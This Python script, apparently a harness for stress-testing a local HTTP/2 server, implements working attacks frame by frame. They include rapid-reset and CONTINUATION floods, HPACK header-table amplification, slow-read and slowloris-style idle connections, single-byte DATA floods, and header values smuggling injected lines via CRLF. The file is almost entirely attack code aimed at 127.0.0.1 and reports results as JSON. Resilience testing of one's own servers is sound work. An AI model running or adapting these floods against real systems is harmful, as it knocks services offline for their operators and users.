"""Attacks on an HTTP/2 server with python's hyperframe and hpack, frame by frame. Usage: attack.py PORT NAME [ARGUMENT…]; prints JSON."""
import json
import select
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PORT = int(sys.argv[1])
REQUEST = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "shop")]
POST = [(":method", "POST")] + REQUEST[1:]


class Peer:
    """One connection. Reads what comes so that the server is not held up, unless told not to."""

    def __init__(self, reads=True, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", PORT))
        self.sock.setblocking(False)
        self.reads = reads
        self.sent = 0
        self.goaway = None
        self.closed = False
        self.frames = []
        self.buffer = b""
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(settings=settings or {}).serialize())

    def send(self, data):
        """Sends all of it, or as much as the server takes before it closes."""
        view = memoryview(data)
        stalled = time.time()
        while view and not self.closed:
            self.read()
            try:
                count = self.sock.send(view)
                self.sent += count
                view = view[count:]
                stalled = time.time()
            except BlockingIOError:
                select.select([self.sock] if self.reads else [], [self.sock], [], 0.5)
                if time.time() - stalled > 20:
                    break
            except OSError:
                self.closed = True

    def read(self, wait=0.0):
        if not self.reads or self.closed:
            return
        while select.select([self.sock], [], [], wait)[0]:
            try:
                data = self.sock.recv(65536)
            except BlockingIOError:
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            self.buffer += data
            self.cut()
            wait = 0.0

    def cut(self):
        while len(self.buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            frame.parse_body(memoryview(self.buffer[9:9 + length]))
            self.buffer = self.buffer[9 + length:]
            if isinstance(frame, GoAwayFrame) and frame.error_code != 0:
                self.goaway = frame.error_code
            if not isinstance(frame, DataFrame):
                self.frames.append(frame)

    def until(self, done, seconds=20.0):
        end = time.time() + seconds
        while not done() and not self.closed and time.time() < end:
            self.read(0.2)
        return done()

    def head(self, stream, fields, end_stream=True):
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream, self.encoder.encode(fields), flags=flags).serialize()

    def window(self, stream):
        """How much of a body the server has allowed so far, on the stream and in all."""
        sizes = {0: 65535, stream: 65535}
        for frame in self.frames:
            if isinstance(frame, SettingsFrame):
                sizes[stream] += frame.settings.get(SettingsFrame.INITIAL_WINDOW_SIZE, 65535) - 65535
            if isinstance(frame, WindowUpdateFrame) and frame.stream_id in sizes:
                sizes[frame.stream_id] += frame.window_increment
        return min(sizes.values())

    def status(self, stream):
        for frame in self.frames:
            if isinstance(frame, HeadersFrame) and frame.stream_id == stream:
                return dict(self.decoder.decode(frame.data)).get(":status")
        return None

    def outcome(self, stream):
        """Status of the answer, or the error that ended stream or connection."""
        def found():
            for frame in self.frames:
                if frame.stream_id == stream and isinstance(frame, (HeadersFrame, RstStreamFrame)):
                    return True
            return self.goaway is not None
        self.until(found)
        for frame in self.frames:
            if isinstance(frame, RstStreamFrame) and frame.stream_id == stream:
                return "reset %d" % frame.error_code
        if self.goaway is not None:
            return "goaway %d" % self.goaway
        return "closed" if self.closed and self.status(stream) is None else "status %s" % self.status(stream)


def rapid_reset(peer, left):
    out = bytearray()
    for stream in range(1, 2 * left, 2):
        out += peer.head(stream, REQUEST) + RstStreamFrame(stream, error_code=8).serialize()
    return bytes(out)


def repeated(frame):
    return lambda _peer, left: frame * left


def empty_data(peer, left):
    return peer.head(1, POST, False) + DataFrame(1, b"").serialize() * left


def continuation(peer, left):
    out = bytearray(HeadersFrame(1, peer.encoder.encode(REQUEST)).serialize())
    for index in range(left):
        out += ContinuationFrame(1, b"\x00" + bytes([6]) + b"x-%04d" % (index % 10000) + bytes([100]) + b"y" * 100).serialize()
    return bytes(out)


def stream_ids(peer, left):
    return b"".join(peer.head(1 + 2 * index, POST, False) for index in range(left))


FLOODS = {
    "rapid-reset": rapid_reset,
    "ping": repeated(PingFrame(0, b"01234567").serialize()),
    "settings": repeated(SettingsFrame(settings={}).serialize()),
    "priority": repeated(PriorityFrame(3, depends_on=1, stream_weight=1).serialize()),
    "window-update": repeated(WindowUpdateFrame(0, window_increment=1).serialize()),
    "empty-data": empty_data,
    "continuation": continuation,
    "empty-continuation": lambda peer, left: HeadersFrame(1, peer.encoder.encode(REQUEST)).serialize()
    + ContinuationFrame(1, b"").serialize() * left,
    "streams": stream_ids,
    "unknown": repeated(struct.pack(">I", 4)[1:] + b"\xc8\x00" + struct.pack(">I", 0) + b"abcd"),
}


def flood(name, count):
    """Sends `count` steps, on as many connections as it takes when the server ends them; at most 200."""
    result = {"sent": 0, "connections": 0, "codes": {}}
    left = count
    per = 5000
    while left > 0 and result["connections"] < 200:
        peer = Peer()
        peer.send(FLOODS[name](peer, min(left, per)))
        peer.until(lambda: peer.goaway is not None, 30)
        left -= per
        code = str(peer.goaway)
        result["codes"][code] = result["codes"].get(code, 0) + 1
        result["connections"] += 1
        result["sent"] += peer.sent
        peer.sock.close()
    return result


def amplify(name, connections):
    """Heads that unfold to much more than they are (or, to compare, do not), on open streams; connections stay until all are made."""
    peers = []
    for _ in range(connections):
        peer = Peer()
        # One entry of some 3,900 bytes in the table; after it, one byte each.
        big = b"\x40" + bytes([5]) + b"x-big" + b"\x7f" + bytes([0xbd, 0x1d]) + b"y" * 3900
        if name == "cookies":
            big = b"\x40" + bytes([6]) + b"cookie" + b"\x7f" + bytes([0xbd, 0x1d]) + b"y" * 3900
        start = hpack.Encoder().encode([])
        fields = b"\x83\x86\x04\x05/hang\x01\x04shop" + start
        out = bytearray()
        for index in range(400):
            block = fields + (b"" if name == "plain" else (big if index == 0 else b"\xbe") + b"\xbe" * 11)
            out += HeadersFrame(1 + 2 * index, block, flags=["END_HEADERS"]).serialize()
        peer.send(bytes(out))
        peer.read(0.2)
        peers.append(peer)
    time.sleep(0.5)
    return {"sent": sum(peer.sent for peer in peers), "connections": len(peers)}


def pipe(streams, connections):
    """Asks for much and reads nothing (slow read), with windows as large as they get."""
    peers = []
    for _ in range(connections):
        peer = Peer(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
        peer.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        peer.reads = False
        out = WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535).serialize()
        for index in range(streams):
            out += peer.head(1 + 2 * index, REQUEST[:2] + [(":path", "/bytes/1000000"), (":authority", "shop")])
        peer.send(out)
        peers.append(peer)
    time.sleep(2)
    return {"sent": sum(peer.sent for peer in peers), "connections": len(peers)}


ILLEGAL = {
    "line end in a value": [("x-a", "b\r\nx-smuggled: yes")],
    "line feed in a value": [("x-a", "b\nx-smuggled: yes")],
    "NUL in a value": [("x-a", "b\0c")],
    "line end in a name": [("x-a\r\nx-smuggled", "yes")],
    "colon in a name": [("x-a: b", "c")],
    "upper-case name": [("X-A", "b")],
    "empty name": [("", "b")],
    "connection": [("connection", "x-a")],
    "transfer-encoding": [("transfer-encoding", "chunked")],
    "two hosts": [("host", "other")],
    "second path": [(":path", "/admin")],
    "unknown pseudo header": [(":x", "y")],
    "late pseudo header": [("x-a", "b"), (":authority", "other")],
    "content-length that lies": [("content-length", "10")],
}


def illegal():
    result = {}
    for name, fields in ILLEGAL.items():
        peer = Peer()
        out = b"".join(b"\x00" + bytes([len(n)]) + n.encode("latin1") + bytes([len(v)]) + v.encode("latin1") for n, v in fields)
        head = peer.encoder.encode([(n, v) for n, v in REQUEST if n != ":path"] + [(":path", "/illegal")]) + out
        peer.send(HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"]).serialize())
        result[name] = peer.outcome(1)
        peer.sock.close()
    return result


def paths(argv):
    """Outcome of each path, as hexadecimal digits of its bytes."""
    result = {}
    for digits in argv:
        path = bytes.fromhex(digits)
        peer = Peer()
        head = peer.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "shop")])
        peer.send(HeadersFrame(1, head, flags=["END_HEADERS", "END_STREAM"]).serialize())
        result[digits] = peer.outcome(1)
        peer.sock.close()
    return result


def count_headers(count):
    peer = Peer()
    peer.send(peer.head(1, REQUEST + [("x-%d" % index, "y") for index in range(count)]))
    return peer.outcome(1)


def idle(count, text):
    """Opens connections that say a little and then nothing, and tells how many of them the server ended; stays until its input ends."""
    socks = []
    for _ in range(count):
        try:
            sock = socket.create_connection(("127.0.0.1", PORT), timeout=20)
            sock.sendall(text.encode("latin1"))
            socks.append(sock)
        except OSError:
            break
    for sock in socks:
        sock.setblocking(False)

    def is_ended(sock):
        try:
            return sock.recv(10000, socket.MSG_PEEK) == b""
        except BlockingIOError:
            return False
        except OSError:
            return True

    # A busy server takes its time with connections that wait; two looks alike in a row are its answer.
    ended = 0
    for _ in range(60):
        time.sleep(1)
        before, ended = ended, sum(is_ended(sock) for sock in socks)
        if ended > 0 and ended == before:
            break
    print(json.dumps({"sent": len(socks) * len(text), "open": len(socks) - ended, "ended": ended}), flush=True)
    sys.stdin.read()


def bytewise(count, text):
    """Sends a long text byte by byte, each in a packet of its own, on `count` connections at a time."""
    socks = []
    for _ in range(count):
        sock = socket.create_connection(("127.0.0.1", PORT), timeout=60)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        socks.append(sock)
    sent = 0
    for byte in text.encode("latin1"):
        for sock in socks:
            try:
                sent += sock.send(bytes([byte]))
            except OSError:
                pass
    heads = []
    for sock in socks:
        try:
            heads.append(sock.recv(100).decode("latin1").split("\r\n")[0])
        except OSError as error:
            heads.append(type(error).__name__)
    return {"sent": sent, "answers": sorted(set(heads))}


def crumbs(count):
    """A body of single bytes, each in a DATA frame of its own; as many as the windows allow at a time."""
    peer = Peer()
    peer.send(peer.head(1, [(":path", "/free") if name == ":path" else (name, value) for name, value in POST], False))
    left = count
    ended = lambda: any(isinstance(frame, RstStreamFrame) for frame in peer.frames) or peer.goaway is not None
    while left > 0 and peer.until(lambda: ended() or peer.window(1) > count - left) and not ended():
        part = min(left, 1000, peer.window(1) - (count - left))
        left -= part
        peer.send(DataFrame(1, b"x").serialize() * part + (DataFrame(1, b"", flags=["END_STREAM"]).serialize() if left == 0 else b""))
    return {"sent": peer.sent, "outcome": peer.outcome(1)}


def raw(directory, count):
    """Sends each file of the directory on a connection of its own and waits for the end, or for silence. Slow ones are told."""
    import os
    from concurrent.futures import ThreadPoolExecutor

    def one(name):
        with open(os.path.join(directory, name), "rb") as file:
            data = file.read()
        start = time.time()
        answer = b""
        try:
            sock = socket.create_connection(("127.0.0.1", PORT), timeout=60)
            sock.sendall(data)
            sock.shutdown(socket.SHUT_WR)
            while True:
                part = sock.recv(65536)
                if not part:
                    break
                answer += part
        except OSError:
            pass
        return name, len(data), time.time() - start, answer[:12].decode("latin1")

    with ThreadPoolExecutor(8) as pool:
        done = list(pool.map(one, sorted(os.listdir(directory))[:count]))
    statuses = {}
    for _, _, _, head in done:
        statuses[head] = statuses.get(head, 0) + 1
    return {"count": len(done), "sent": sum(size for _, size, _, _ in done),
            "slow": [(name, took) for name, _, took, _ in done if took > 25], "statuses": statuses}


def main():
    name, argv = sys.argv[2], sys.argv[3:]
    if name in FLOODS:
        return flood(name, int(argv[0]))
    if name in ("table", "cookies", "plain"):
        return amplify(name, int(argv[0]))
    if name == "pipe":
        return pipe(int(argv[0]), int(argv[1]))
    if name == "illegal":
        return illegal()
    if name == "paths":
        return paths(argv)
    if name == "headers":
        return count_headers(int(argv[0]))
    if name == "crumbs":
        return crumbs(int(argv[0]))
    if name == "bytewise":
        return bytewise(int(argv[0]), sys.stdin.read())
    if name == "raw":
        return raw(argv[0], int(argv[1]))
    if name == "idle":
        return idle(int(argv[0]), argv[1].encode("latin1").decode("unicode_escape"))
    raise SystemExit("no such attack: " + name)


answer = main()
if answer is not None:
    print(json.dumps(answer))
